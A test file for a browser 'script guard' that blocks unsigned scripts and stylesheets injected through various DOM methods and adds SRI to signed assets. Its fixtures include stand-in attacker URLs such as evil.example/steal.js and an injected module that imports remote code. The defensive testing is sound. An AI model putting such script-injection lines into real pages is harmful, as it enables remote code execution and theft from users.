// @vitest-environment happy-dom
/**
 * The script guard covers every DOM path a widget can take to add code or styles: `appendChild` on the
 * body as on the head, `insertBefore`, `append`/`prepend`/`after`, `insertAdjacentElement`, and
 * subtrees carrying a script; signed assets get SRI, anything else never enters the document.
 */
import { afterEach, describe, expect, it, vi } from 'vitest';
import { makeKeys } from '../../test/snapshot-fixture.js';
import { testWidget } from '../../test/widgets.js';
import { createAssetIndex, installScriptGuard, removeScriptGuard } from './integrity.js';

const keys = makeKeys();
const a = testWidget(keys, '@deqing/find-machinery', {
  override: {
    assets: {
      ...testWidget(keys, '@deqing/find-machinery').assets,
      'static/css/tile.css': `sha384-${'7'.repeat(64)}`,
    },
  },
});
const index = createAssetIndex([a]);
const signedCss = `${a.assetBase}static/css/tile.css`;
const signedJs = `${a.assetBase}static/js/async/shared.123.js`;

const script = (src?: string, text?: string) => {
  const el = document.createElement('script');
  if (src) el.src = src;
  if (text) el.textContent = text;
  return el;
};
const stylesheet = (href: string) => {
  const el = document.createElement('link');
  el.rel = 'stylesheet';
  el.href = href;
  return el;
};

describe('the script guard', () => {
  afterEach(() => {
    removeScriptGuard(document);
    document.body.innerHTML = '';
    vi.restoreAllMocks();
  });

  it.each<[string, (node: Element) => void]>([
    ['body.appendChild', (n) => document.body.appendChild(n)],
    ['head.insertBefore', (n) => document.head.insertBefore(n, null)],
    ['body.append', (n) => document.body.append(n)],
    ['body.prepend', (n) => document.body.prepend(n)],
    ['insertAdjacentElement', (n) => document.body.insertAdjacentElement('beforeend', n)],
    [
      'a div carrying it',
      (n) => {
        const div = document.createElement('div');
        div.appendChild(n);
        document.body.appendChild(div);
      },
    ],
  ])(
    'refuses an unsigned script added through %s, with an error event and a coded warning',
    async (_path, add) => {
      const warn = vi.spyOn(console, 'warn').mockImplementation(() => undefined);
      installScriptGuard(index, document);
      const evil = script('https://evil.example/steal.js');
      const failed = new Promise((resolve) => evil.addEventListener('error', resolve));
      add(evil);
      expect(evil.isConnected).toBe(false);
      expect(document.querySelectorAll('script[src*="evil"]')).toHaveLength(0);
      await failed;
      expect(String(warn.mock.calls[0]?.[0])).toMatch(/SHELL_ERR_SCRIPT_REFUSED.*steal\.js/);
    },
  );

  it('refuses inline and src-less scripts, lets inert JSON through', () => {
    vi.spyOn(console, 'warn').mockImplementation(() => undefined);
    installScriptGuard(index, document);
    const inline = script(undefined, 'window.pwned = 1');
    document.body.appendChild(inline);
    expect(inline.isConnected).toBe(false);
    const module = script(undefined, 'import("https://evil.example/x.js")');
    module.type = 'module';
    document.body.append(module);
    expect(module.isConnected).toBe(false);
    const data = script(undefined, '{"a":1}');
    data.type = 'application/json';
    document.body.appendChild(data);
    expect(data.isConnected).toBe(true);
  });

  it('gives signed scripts and stylesheets their SRI, and refuses unsigned stylesheets', () => {
    vi.spyOn(console, 'warn').mockImplementation(() => undefined);
    installScriptGuard(index, document);
    const js = script(signedJs);
    document.body.appendChild(js);
    expect([js.isConnected, js.getAttribute('integrity'), js.getAttribute('crossorigin')]).toEqual([
      true,
      a.assets['static/js/async/shared.123.js'],
      'anonymous',
    ]);
    const css = stylesheet(signedCss);
    document.head.appendChild(css);
    expect([css.isConnected, css.getAttribute('integrity')]).toEqual([true, `sha384-${'7'.repeat(64)}`]);
    const evil = stylesheet('https://evil.example/x.css');
    document.head.appendChild(evil);
    expect(evil.isConnected).toBe(false);
    css.remove();
    js.remove();
  });

  it("lets the shell's own scripts pass and restores the DOM methods when removed", () => {
    installScriptGuard(index, document);
    const own = script(`${window.location.origin}/shell/static/js/main.js`);
    document.body.appendChild(own);
    expect(own.isConnected).toBe(true);
    own.remove();
    removeScriptGuard(document);
    const after = script('https://evil.example/x.js');
    document.body.appendChild(after);
    expect(after.isConnected).toBe(true);
    after.remove();
  });

  it('keeps one guard per window: a new install replaces the old one', () => {
    vi.spyOn(console, 'warn').mockImplementation(() => undefined);
    installScriptGuard(createAssetIndex([]), document);
    installScriptGuard(index, document);
    const js = script(signedJs);
    document.body.appendChild(js);
    expect(js.isConnected).toBe(true);
    js.remove();
  });
});
